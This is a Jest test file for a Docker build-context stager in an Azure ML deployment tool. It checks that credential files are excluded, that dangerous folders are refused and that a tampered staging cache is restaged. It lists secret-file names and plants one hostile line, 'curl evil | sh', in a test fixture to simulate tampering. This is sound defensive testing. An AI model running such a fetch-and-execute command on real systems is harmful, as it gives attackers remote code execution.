/**
 * Issue 7 items 1, 2 and 12: secrets stay out of the image, dangerous folders are refused, the
 * staging cache is private and verified before reuse, and nothing can shadow the model.
 */
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { computeFingerprint, prepareBuildContext, SECRET_EXCLUDES, stagingRoot } from "../../lib/image/build-context";
import { preparePrivateRoot, removeOldContexts, manifestPath, touchContext } from "../../lib/image/staging/staging-root";
import { ModelSource } from "../../lib/model/model-source";
import { ValidationError } from "../../lib/errors";
import { useStagingSandbox } from "../staging-sandbox";
import { contextSpec } from "./context-spec";
import { imageView, packEntries, stageContext } from "../context-view";
import { writeFiles } from "../model-project";

const SCRIPT = "def init():\n    pass\n\ndef run(data):\n    return data\n";

const sandbox = useStagingSandbox("build-context-hardening-");

let counter = 0;

function project(extra: { [rel: string]: string } = {}): string {
  const root = path.join(sandbox(), `p${counter++}`);
  writeFiles(root, {
    "scoring-image/Dockerfile": "FROM python\n",
    "scoring-image/requirements.txt": "azure-functions\n",
    "scoring-image/aml_host/server.py": "print('host')\n",
    "scoring-image/adapters/http.py": "# http\n",
    "src/score.py": SCRIPT,
    "models/bundle/weights.bin": "0123456789",
    ...extra,
  });
  return root;
}

/** The staged files from the entry script's folder. */
const sourceFiles = (staged: { files: readonly string[] }): string[] => staged.files.filter((f) => f.startsWith("source/"));
const keptWarning = "Deployment: in the image although they look like secrets, because a `!` line of a .dockerignore names them: ";

/** Every hostile file the issue names, plus the other obvious credential files. */
const HOSTILE = [
  ".env",
  ".env.production",
  "secrets.json",
  "id_rsa",
  "id_ed25519",
  ".aws/credentials",
  "credentials",
  ".npmrc",
  "tls.pem",
  "server.key",
  "terraform.tfstate",
  "terraform.tfstate.backup",
  "prod.tfvars",
  ".netrc",
  ".pypirc",
  ".git-credentials",
  ".azure/msal_token_cache.json",
  ".ssh/config",
  "nested/deeper/.env",
];

describe("secret exclusions", () => {
  let warn: jest.SpyInstance;
  beforeEach(() => {
    warn = jest.spyOn(console, "warn").mockImplementation(() => undefined);
  });
  afterEach(() => warn.mockRestore());
  /** What synth printed as warnings. */
  const warnings = (): string[] => warn.mock.calls.map((c) => String(c[0]));

  test("the list is exported and covers the files the issue names", () => {
    for (const p of ["**/.env", "**/.env.*", "**/secrets.json", "**/id_rsa", "**/.aws", "**/credentials", "**/.npmrc", "**/*.pem", "**/*.key", "**/*.tfstate", "**/*.tfstate.*", "**/.ssh", "**/.azure", "**/.netrc", "**/.pypirc", "**/.git-credentials"]) {
      expect(SECRET_EXCLUDES).toContain(p);
    }
  });

  test.each(["src", "models/bundle"])("each hostile file in %s is left out, reported sorted, and does not change the fingerprint", (folder) => {
    const clean = project();
    const root = project(Object.fromEntries(HOSTILE.map((h) => [`${folder}/${h}`, `secret ${h}`])));
    const staged = stageContext(contextSpec(root));
    const prefix = folder === "src" ? "source/" : "model/bundle/";
    // As the image gets them: the model's small files unpacked from the pack.
    const inImage = Object.keys(imageView(staged.directory));
    for (const h of HOSTILE) expect(inImage).not.toContain(`${prefix}${h}`);
    expect(inImage.filter((f) => f.startsWith(prefix))).toEqual(folder === "src" ? ["source/score.py"] : ["model/bundle/weights.bin"]);
    // Nothing secret on disk in the staged context, or in the pack, either.
    const onDisk = fs.readdirSync(staged.directory, { recursive: true }).map(String);
    expect(onDisk.some((f) => /secret|\.env|id_rsa|tfstate/.test(f))).toBe(false);
    expect(packEntries(path.join(staged.directory, "model-small-files.tar")).some((f) => /secret|\.env|id_rsa|tfstate/.test(f))).toBe(false);
    expect(staged.fingerprint).toBe(computeFingerprint(contextSpec(clean)));
    const expected = [
      ".aws/", ".azure/", ".env", ".env.production", ".git-credentials", ".netrc", ".npmrc", ".pypirc", ".ssh/",
      "credentials", "id_ed25519", "id_rsa", "nested/deeper/.env", "prod.tfvars", "secrets.json", "server.key",
      "terraform.tfstate", "terraform.tfstate.backup", "tls.pem",
    ].map((f) => `${prefix}${f}`);
    expect(staged.secretExcluded).toEqual(expected);
    expect(warn).toHaveBeenCalledTimes(1);
    const message = String(warn.mock.calls[0][0]);
    expect(message).toContain(`Deployment: left out of the image because they look like secrets or Terraform state: ${expected.join(", ")}.`);
    expect(message).toContain(".dockerignore");
  });

  test("a ! line in the folder's .dockerignore naming one re-includes it (reported as kept)", () => {
    const root = project({ "src/.env": "A=1", "src/server.key": "k", "src/.dockerignore": "!.env\n" });
    const staged = stageContext(contextSpec(root));
    expect(staged.files).toContain("source/.env");
    expect(staged.files).not.toContain("source/server.key");
    expect(staged.secretExcluded).toEqual(["source/server.key"]);
    expect(warnings()).toContain(`${keptWarning}source/.env.`);
  });

  test("an allow-list .dockerignore (*, then ! lines for what to keep) does not re-include secrets, .git or node_modules below a kept folder", () => {
    const root = project({
      "src/.dockerignore": "*\n!score.py\n!sub\n",
      "src/sub/ok.py": "x = 1\n",
      "src/sub/.env": "DB_PASSWORD=SECRET",
      "src/sub/deep/tls.key": "SECRET KEY",
      "src/sub/deep/ca.pem": "SECRET CERT",
      "src/sub/.git/config": "[remote] url = https://user:SECRET@example.com/x.git",
      "src/sub/node_modules/m/index.js": "",
      "src/other.py": "left out by *",
    });
    const staged = stageContext(contextSpec(root));
    expect(sourceFiles(staged)).toEqual(["source/score.py", "source/sub/ok.py"]);
    expect(staged.secretExcluded).toEqual(["source/sub/.env", "source/sub/deep/ca.pem", "source/sub/deep/tls.key"]);
    const onDisk = fs.readdirSync(staged.directory, { recursive: true }).map(String);
    expect(onDisk.filter((f) => f.startsWith("source"))).toEqual(expect.not.arrayContaining([expect.stringMatching(/\.env|\.key|\.pem|\.git|node_modules/)]));
    // A ! line that names the secret itself still re-includes it.
    const named = project({ "src/.dockerignore": "*\n!score.py\n!sub\n!sub/*.pem\n", "src/sub/ca.pem": "public cert", "src/sub/.env": "A=1" });
    const kept = stageContext(contextSpec(named));
    expect(sourceFiles(kept)).toEqual(["source/score.py", "source/sub/ca.pem"]);
    expect(kept.secretExcluded).toEqual(["source/sub/.env"]);
  });

  test("a link with a harmless name to a secret (file or folder) is left out and reported with its target", () => {
    const root = project({ "src/.env": "DB_PASSWORD=SECRET", "src/sub/deep/tls.key": "SECRET KEY", "src/.kube/config": "SECRET KUBECONFIG", "src/.kube/cache.txt": "fine", "src/data.txt": "fine" });
    const src = path.join(root, "src");
    fs.symlinkSync(".env", path.join(src, "config.txt"));
    fs.symlinkSync("sub/deep/tls.key", path.join(src, "tls.txt"));
    fs.symlinkSync(".kube", path.join(src, "kube"));
    fs.symlinkSync("data.txt", path.join(src, "data-link.txt"));
    const staged = stageContext(contextSpec(root));
    expect(sourceFiles(staged)).toEqual(["source/.kube/cache.txt", "source/data-link.txt", "source/data.txt", "source/kube/cache.txt", "source/score.py"]);
    expect(staged.secretExcluded).toEqual([
      "source/.env",
      "source/.kube/config",
      "source/config.txt (links to .env)",
      "source/kube/config (links to .kube/config)",
      "source/sub/deep/tls.key",
      "source/tls.txt (links to sub/deep/tls.key)",
    ]);
    for (const f of staged.files) expect(fs.readFileSync(path.join(staged.directory, ...f.split("/")), "utf8")).not.toContain("SECRET");
    // A link to a whole secret folder.
    const ssh = project({ "src/.ssh/id_ed25519": "SECRET" });
    fs.symlinkSync(".ssh", path.join(ssh, "src", "keys"));
    const sshStaged = stageContext(contextSpec(ssh));
    expect(sourceFiles(sshStaged)).toEqual(["source/score.py"]);
    expect(sshStaged.secretExcluded).toEqual(["source/.ssh/", "source/keys/ (links to .ssh)"]);
  });

  test("a ! line naming a file inside a left-out folder re-includes that file only", () => {
    const root = project({
      "src/.dockerignore": "!.aws/config\n!.git/HEAD\n",
      "src/.aws/config": "[default]\nregion = westeurope\n",
      "src/.aws/credentials": "SECRET",
      "src/.git/HEAD": "ref: refs/heads/main\n",
      "src/.git/config": "[remote] url = https://user:SECRET@example.com/x.git",
    });
    const staged = stageContext(contextSpec(root));
    expect(sourceFiles(staged)).toEqual(["source/.aws/config", "source/.git/HEAD", "source/score.py"]);
    expect(staged.secretExcluded).toEqual(["source/.aws/credentials"]);
    expect(warnings()).toContain(`${keptWarning}source/.aws/config.`);
  });

  test("a ! line naming a folder re-includes what it names, not secrets nested below it", () => {
    const root = project({
      "src/.dockerignore": "!*.pem\n!.git\n",
      "src/cert.pem": "public cert",
      "src/keys.pem/readme.txt": "fine",
      "src/keys.pem/id_rsa": "SECRET",
      "src/keys.pem/.env": "SECRET",
      "src/.git/HEAD": "ref: refs/heads/main\n",
      "src/.git/id_rsa": "SECRET",
    });
    const staged = stageContext(contextSpec(root));
    expect(sourceFiles(staged)).toEqual(["source/.git/HEAD", "source/cert.pem", "source/keys.pem/readme.txt", "source/score.py"]);
    expect(staged.secretExcluded).toEqual(["source/.git/id_rsa", "source/keys.pem/.env", "source/keys.pem/id_rsa"]);
  });

  test("a link from the entry script's folder into the model inside it is left out (the model's own .dockerignore decides its files)", () => {
    const root = project({
      "src/model/weights.bin": "w",
      "src/model/.dockerignore": "private/\n",
      "src/model/private/creds.yaml": "token: SECRET",
    });
    fs.symlinkSync("model/private/creds.yaml", path.join(root, "src", "settings.yaml"));
    fs.symlinkSync("model/private", path.join(root, "src", "cfg"));
    const staged = stageContext(contextSpec(root, { model: ModelSource.fromLocalPath(path.join(root, "src", "model")).resolve("T") }));
    expect(staged.files.filter((f) => !f.startsWith("app/"))).toEqual(["Dockerfile", "host-requirements.txt", "model-small-files.tar", "model/.packed", "requirements.txt", "source/score.py"]);
    expect(packEntries(path.join(staged.directory, "model-small-files.tar"))).toEqual(["./", "model/", "model/weights.bin"]);
  });

  test("a Dockerfile or requirements.txt that is a link is staged as the file it points to", async () => {
    const root = project();
    const image = path.join(root, "scoring-image");
    fs.renameSync(path.join(image, "Dockerfile"), path.join(image, "Dockerfile.real"));
    fs.writeFileSync(path.join(image, "Dockerfile.real"), "FROM python\n# a longer Dockerfile than its link's target name\n");
    fs.symlinkSync("Dockerfile.real", path.join(image, "Dockerfile"));
    const staged = stageContext(contextSpec(root));
    expect(fs.statSync(path.join(staged.directory, "Dockerfile")).size).toBe(fs.statSync(path.join(image, "Dockerfile.real")).size);
    expect(fs.readFileSync(path.join(staged.directory, "Dockerfile"), "utf8")).toContain("a longer Dockerfile");
  });

  test("every file left out is named, however many", () => {
    const many = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`src/keys/k${String(i).padStart(2, "0")}.pem`, "SECRET"]));
    const root = project({ ...many, "src/terraform.tfstate": "{}" });
    const staged = stageContext(contextSpec(root));
    expect(staged.secretExcluded).toHaveLength(41);
    const message = warnings()[0];
    for (const f of staged.secretExcluded!) expect(message).toContain(f);
    expect(message).toContain("source/terraform.tfstate");
    expect(message).not.toMatch(/and \d+ more/);
  });

  test("no warning when nothing was left out", () => {
    stageContext(contextSpec(project()));
    expect(warn).not.toHaveBeenCalled();
  });

  test("an entry script folder with local Terraform state next to it: state left out, fingerprint stable across applies", () => {
    const root = project({ "src/terraform.tfstate": "{\"serial\": 1}" });
    const before = computeFingerprint(contextSpec(root));
    writeFiles(root, { "src/terraform.tfstate": "{\"serial\": 2, \"password\": \"p\"}", "src/terraform.tfstate.backup": "{\"serial\": 1}" });
    expect(computeFingerprint(contextSpec(root))).toBe(before);
  });
});

describe("names the image layout must not trip over", () => {
  test("a model folder named .packed gets the other placeholder name, so the pack's folder is not unpacked over a file", () => {
    const root = project({ "models/.packed/w.bin": "w" });
    const staged = stageContext(contextSpec(root, { model: ModelSource.fromLocalPath(path.join(root, "models", ".packed")).resolve("T") }));
    expect(staged.files.filter((f) => f.startsWith("model"))).toEqual(["model-small-files.tar", "model/.packed-placeholder"]);
    expect(packEntries(path.join(staged.directory, "model-small-files.tar"))).toEqual(["./", ".packed/", ".packed/w.bin"]);
    expect(imageView(staged.directory)["model/.packed/w.bin"].toString("utf8")).toBe("w");
  });

  test("a file whose name is not valid UTF-8 is refused by name, not with an error from deep inside", () => {
    const root = project();
    const bad = Buffer.concat([Buffer.from(path.join(root, "models", "bundle", "caf")), Buffer.from([0xe9]), Buffer.from(".txt")]);
    fs.writeFileSync(bad, "latin-1 name");
    expect(() => stageContext(contextSpec(root))).toThrow(`Deployment: invalid model ${JSON.stringify(path.join(root, "models", "bundle"))}: the name of caf\uFFFD.txt is not valid UTF-8. Allowed: file and folder names in UTF-8 (rename the file)`);
  });
});

describe("dangerous folders are refused", () => {
  // As resolveEntryScript returns it: the value given is the script, its folder is what is copied.
  const script = (sourceDir: string) => ({ absolutePath: path.join(sourceDir, "score.py"), sourceDir, relativePath: "score.py", given: path.join(sourceDir, "score.py") });

  test.each([
    ["/", /invalid entryScript "\/score\.py": its folder \/, copied into the image as a whole, is the root of the file system\. Allowed: a folder that holds only what the image needs/],
    [os.homedir(), /invalid entryScript ".*score\.py": its folder .*, copied into the image as a whole, is a home folder\. Allowed:/],
    ["/home/alice", /invalid entryScript "\/home\/alice\/score\.py": its folder \/home\/alice, copied into the image as a whole, is a home folder\./],
    ["/root", /invalid entryScript "\/root\/score\.py": its folder \/root, copied into the image as a whole, is a home folder\./],
    [process.cwd(), /invalid entryScript ".*score\.py": its folder .* contains the cdktf project root .* \(Terraform state, cdktf\.out, node_modules\)/],
    [path.dirname(process.cwd()), /contains the cdktf project root/],
  ])("entry script folder %s: the error names the script given and the folder", (dir, message) => {
    const root = project();
    expect(() => computeFingerprint(contextSpec(root, { entryScript: script(dir) }))).toThrow(ValidationError);
    expect(() => computeFingerprint(contextSpec(root, { entryScript: script(dir) }))).toThrow(message);
  });

  test("a model folder that is the project root", () => {
    const root = project();
    const model = { absolutePath: process.cwd(), kind: "directory" as const, basename: "x" };
    expect(() => computeFingerprint(contextSpec(root, { model }))).toThrow(/Deployment: invalid model ".*": it contains the cdktf project root/);
  });

  test("without a cdktf.json, the folder with package.json is the project root (an app run with plain node)", () => {
    const root = project();
    const app = path.join(sandbox(), `node-app-${counter++}`);
    writeFiles(app, { "package.json": "{}", "score.py": SCRIPT, "scoring/score.py": SCRIPT });
    const before = process.cwd();
    process.chdir(app);
    try {
      expect(() => computeFingerprint(contextSpec(root, { entryScript: script(app) }))).toThrow(
        `Deployment: invalid entryScript ${JSON.stringify(path.join(app, "score.py"))}: its folder ${app}, copied into the image as a whole, contains the project root (the folder with package.json) ${app} (Terraform state, cdktf.out, node_modules)`,
      );
      // A folder of its own inside the project is fine.
      expect(computeFingerprint(contextSpec(root, { entryScript: script(path.join(app, "scoring")) }))).toMatch(/^[0-9a-f]{64}$/);
    } finally {
      process.chdir(before);
    }
  });

  test("a folder holding the staging root", () => {
    const root = project();
    expect(() => computeFingerprint(contextSpec(root, { entryScript: script(sandbox()) }))).toThrow(/its folder .*, copied into the image as a whole, contains the build-context staging folder/);
  });

  test("a model file (not a folder) at the project root is fine: only that file is copied", () => {
    const root = project();
    const model = { absolutePath: path.join(process.cwd(), "package.json"), kind: "file" as const, basename: "package.json" };
    const staged = stageContext(contextSpec(root, { model }));
    expect(Object.keys(imageView(staged.directory)).filter((f) => f.startsWith("model/"))).toEqual(["model/package.json"]);
  });
});

describe("nothing shadows the model (COPY order)", () => {
  test("a source folder with azureml-models/ is refused", () => {
    const root = project({ "src/azureml-models/bundle/weights.bin": "planted" });
    expect(() => computeFingerprint(contextSpec(root))).toThrow(/Deployment: invalid entryScript ".*src": its folder holds azureml-models\/bundle\/weights\.bin: the image copies the entry script's folder to \/var\/azureml-app, so it would replace files of the model/);
  });

  test("excluding it with .dockerignore is accepted", () => {
    const root = project({ "src/azureml-models/bundle/weights.bin": "planted", "src/.dockerignore": "azureml-models\n" });
    expect(stageContext(contextSpec(root)).files.some((f) => f.includes("azureml-models"))).toBe(false);
  });

  test("a model kept inside the source folder under azureml-models/ is fine (it is not copied twice)", () => {
    const root = project({ "src/azureml-models/m.pkl": "model" });
    const model = ModelSource.fromLocalPath(path.join(root, "src", "azureml-models")).resolve("T");
    const staged = stageContext(contextSpec(root, { model }));
    expect(Object.keys(imageView(staged.directory))).toContain("model/azureml-models/m.pkl");
    expect(staged.files.some((f) => f.startsWith("source/azureml-models"))).toBe(false);
  });
});

describe("the staging cache is not trusted because it exists", () => {
  test("the staging root is private: created 0700, narrowed when wider, refused when a link", () => {
    const root = stagingRoot();
    expect(root).toBe(path.join(sandbox(), "staging"));
    stageContext(contextSpec(project()));
    expect(fs.statSync(root).mode & 0o777).toBe(0o700);
    fs.chmodSync(root, 0o777);
    stageContext(contextSpec(project()));
    expect(fs.statSync(root).mode & 0o777).toBe(0o700);
    const link = path.join(sandbox(), "link-root");
    fs.symlinkSync(root, link);
    expect(() => preparePrivateRoot("Deployment", link)).toThrow(/Deployment: invalid AML_FUNCTION_STAGING_DIR ".*link-root": the staging folder is a symbolic link/);
  });

  test("a staging root owned by another user is refused", () => {
    const other = path.join(sandbox(), "other-owner");
    fs.mkdirSync(other, { mode: 0o700 });
    const owner = fs.statSync(other).uid;
    // Pretend to be another user: the folder is then owned by someone else.
    const spy = jest.spyOn(process, "getuid").mockReturnValue(owner + 4242);
    try {
      expect(() => preparePrivateRoot("Deployment", other)).toThrow(`Deployment: invalid AML_FUNCTION_STAGING_DIR ${JSON.stringify(other)}: the staging folder is owned by uid ${owner}, not by this user (uid ${owner + 4242})`);
    } finally {
      spy.mockRestore();
    }
  });

  test("a planted score.py in the staged context is not shipped, even with its mtime set back", () => {
    const root = project();
    const first = stageContext(contextSpec(root));
    const staged = path.join(first.directory, "source", "score.py");
    const { atime, mtime } = fs.statSync(staged);
    fs.writeFileSync(staged, "import os\nos.system('curl evil | sh')\n");
    fs.utimesSync(staged, atime, mtime);
    const again = stageContext(contextSpec(root));
    expect(again.fingerprint).toBe(first.fingerprint);
    expect(fs.readFileSync(path.join(again.directory, "source", "score.py"), "utf8")).toBe(SCRIPT);
  });

  test("a big model file removed after it was hashed, before the context is staged, fails the synth by name", () => {
    const root = project({ "models/bundle/big.bin": "b".repeat(100 << 10) });
    const context = prepareBuildContext(contextSpec(root));
    const big = fs.realpathSync(path.join(root, "models", "bundle", "big.bin"));
    fs.rmSync(big);
    expect(() => context.stageFolder()).toThrow(`Deployment: invalid buildContext ${JSON.stringify(big)}: the file changed while it was being staged (ENOENT)`);
  });

  test("a source file changed after it was hashed: small model files are staged as hashed, a big one fails the synth", () => {
    const root = project({ "models/bundle/big.bin": "b".repeat(100 << 10) });
    const context = prepareBuildContext(contextSpec(root));
    // Both files change after hashing and before the folder is staged, each with its size and
    // mtime kept.
    const rewrite = (file: string): void => {
      const { atime, mtime, size } = fs.statSync(file);
      fs.writeFileSync(file, "x".repeat(size));
      fs.utimesSync(file, atime, mtime);
    };
    rewrite(path.join(root, "models", "bundle", "weights.bin"));
    rewrite(path.join(root, "models", "bundle", "big.bin"));
    expect(() => context.stageFolder()).toThrow(`Deployment: invalid buildContext ${JSON.stringify(fs.realpathSync(path.join(root, "models", "bundle", "big.bin")))}: the file changed while it was being staged`);

    // Without the big file the small one is staged with the bytes that were hashed (the pack is
    // written as the model is hashed, staging/small-files-pack.ts), so the folder matches its
    // fingerprint. Content of its own: a context staged before would be reused as it is.
    const small = project({ "src/unique.txt": `${Date.now()}-${Math.random()}` });
    const again = prepareBuildContext(contextSpec(small));
    rewrite(path.join(small, "models", "bundle", "weights.bin"));
    expect(imageView(again.stageFolder().directory)["model/bundle/weights.bin"].toString("utf8")).toBe("0123456789");
  });

  test.each([
    ["a staged model file", ["model", "bundle", "big.bin"]],
    ["the staged pack of the small model files", ["model-small-files.tar"]],
  ])("%s replaced by another file (same size and bytes) is restaged", (_, rel) => {
    const root = project({ "models/bundle/big.bin": "b".repeat(100 << 10) });
    const first = stageContext(contextSpec(root));
    const staged = path.join(first.directory, ...rel);
    const bytes = fs.readFileSync(staged);
    fs.rmSync(staged);
    fs.writeFileSync(staged, bytes);
    // A second link keeps the replacement's inode number from being reused by the restage.
    const keep = path.join(sandbox(), `keep-${counter++}`);
    fs.linkSync(staged, keep);
    const again = stageContext(contextSpec(root));
    expect(fs.statSync(path.join(again.directory, ...rel)).ino).not.toBe(fs.statSync(keep).ino);
  });

  test("staging is explicit: nothing is verified or written until stageFolder() is called", () => {
    const root = project();
    const first = stageContext(contextSpec(root));
    expect(first.directory).toBe(path.join(stagingRoot(), first.fingerprint));
    const planted = path.join(first.directory, "source", "score.py");
    fs.writeFileSync(planted, "planted\n");
    const again = prepareBuildContext(contextSpec(root));
    // Not staged yet: the planted file is still there (no build has used the folder).
    expect(fs.readFileSync(planted, "utf8")).toBe("planted\n");
    // Staged: verified against the manifest and restaged before anyone gets the path.
    expect(fs.readFileSync(path.join(again.stageFolder().directory, "source", "score.py"), "utf8")).toBe(SCRIPT);
  });

  test("a context without its manifest is restaged (and gets one)", () => {
    const root = project();
    const first = stageContext(contextSpec(root));
    const manifest = manifestPath(path.dirname(first.directory), first.fingerprint);
    const keep = path.join(sandbox(), `keep-${counter++}`);
    fs.linkSync(path.join(first.directory, "source", "score.py"), keep);
    fs.rmSync(manifest);
    // Staging verifies (here: restages) the context.
    expect(stageContext(contextSpec(root)).directory).toBe(first.directory);
    expect(fs.statSync(path.join(first.directory, "source", "score.py")).ino).not.toBe(fs.statSync(keep).ino);
    expect(fs.existsSync(manifest)).toBe(true);
  });

  test("staged files are 0644 and folders 0755 whatever the inputs had", () => {
    const root = project({ "models/bundle/big.bin": "b".repeat(100 << 10) });
    fs.chmodSync(path.join(root, "src", "score.py"), 0o700);
    fs.chmodSync(path.join(root, "models", "bundle", "big.bin"), 0o600);
    fs.chmodSync(path.join(root, "models", "bundle"), 0o700);
    const staged = stageContext(contextSpec(root));
    expect(fs.statSync(path.join(staged.directory, "source", "score.py")).mode & 0o777).toBe(0o644);
    expect(fs.statSync(path.join(staged.directory, "model", "bundle", "big.bin")).mode & 0o777).toBe(0o644);
    expect(fs.statSync(path.join(staged.directory, "model-small-files.tar")).mode & 0o777).toBe(0o644);
    expect(fs.statSync(path.join(staged.directory, "model", "bundle")).mode & 0o777).toBe(0o755);
  });
});

describe("old contexts are cleaned up", () => {
  test("contexts unused for over 7 days go, and beyond the 20 most recent those older than an hour", () => {
    const root = fs.mkdtempSync(path.join(sandbox(), "cleanup-"));
    const now = Date.now() / 1000;
    const make = (i: number, ageSeconds: number): string => {
      const name = i.toString(16).padStart(64, "0");
      fs.mkdirSync(path.join(root, name));
      fs.writeFileSync(manifestPath(root, name), "{}");
      fs.writeFileSync(path.join(root, `${name}.tar.gz`), "archive");
      fs.utimesSync(manifestPath(root, name), now - ageSeconds, now - ageSeconds);
      return name;
    };
    const fresh = Array.from({ length: 25 }, (_, i) => make(i + 1, 60)); // used a minute ago
    const hoursOld = Array.from({ length: 25 }, (_, i) => make(i + 100, 7200 + i)); // two hours ago
    const weekOld = make(500, 8 * 24 * 3600);
    const current = make(999, 30 * 24 * 3600); // the one in use is never removed
    fs.mkdirSync(path.join(root, ".staging-abc-old"));
    fs.utimesSync(path.join(root, ".staging-abc-old"), now - 7200, now - 7200);
    // The digest caches and memos of earlier versions go; the current inputs' manifests stay.
    fs.writeFileSync(path.join(root, "file-digests.json"), "{}");
    fs.writeFileSync(path.join(root, "file-digests.txt"), "aml-function-deployment/digest-cache/v3\n");
    fs.writeFileSync(path.join(root, "folder-memo-0123.json"), "{}");
    fs.writeFileSync(path.join(root, "input-0123.json"), "{}");
    removeOldContexts(root, current);
    const left = new Set(fs.readdirSync(root));
    for (const n of fresh) expect(left.has(n) && left.has(`${n}.tar.gz`) && left.has(`${n}.manifest.json`)).toBe(true);
    for (const n of hoursOld) expect(left.has(n) || left.has(`${n}.tar.gz`) || left.has(`${n}.manifest.json`)).toBe(false);
    expect(left.has(weekOld)).toBe(false);
    expect(left.has(current)).toBe(true);
    expect(left.has(".staging-abc-old")).toBe(false);
    expect(left.has("file-digests.json")).toBe(false);
    expect(left.has("file-digests.txt")).toBe(false);
    expect(left.has("folder-memo-0123.json")).toBe(false);
    expect(left.has("input-0123.json")).toBe(true);
  });
});

describe("contexts that exist only as an ACR archive", () => {
  test("are marked as used without a manifest, and cleaned up by that mark like any other", () => {
    const root = fs.mkdtempSync(path.join(sandbox(), "archive-only-"));
    const now = Date.now() / 1000;
    const archiveOnly = (i: number): string => {
      const name = i.toString(16).padStart(64, "a");
      fs.writeFileSync(path.join(root, `${name}.tar.gz`), "archive");
      fs.writeFileSync(path.join(root, `${name}.tar.gz.json`), "{}");
      return name;
    };
    const recent = archiveOnly(1);
    const old = archiveOnly(2);
    touchContext(root, recent);
    touchContext(root, old);
    expect(fs.existsSync(path.join(root, `${recent}.used`))).toBe(true);
    const weekAgo = now - 8 * 24 * 3600;
    for (const n of fs.readdirSync(root).filter((f) => f.startsWith(old))) fs.utimesSync(path.join(root, n), weekAgo, weekAgo);
    // Without a mark, the newest of its files counts.
    const unmarked = archiveOnly(3);
    for (const n of fs.readdirSync(root).filter((f) => f.startsWith(unmarked))) fs.utimesSync(path.join(root, n), weekAgo, weekAgo);
    removeOldContexts(root, "f".repeat(64));
    const left = fs.readdirSync(root).sort();
    expect(left).toEqual([`${recent}.tar.gz`, `${recent}.tar.gz.json`, `${recent}.used`].sort());
  });
});
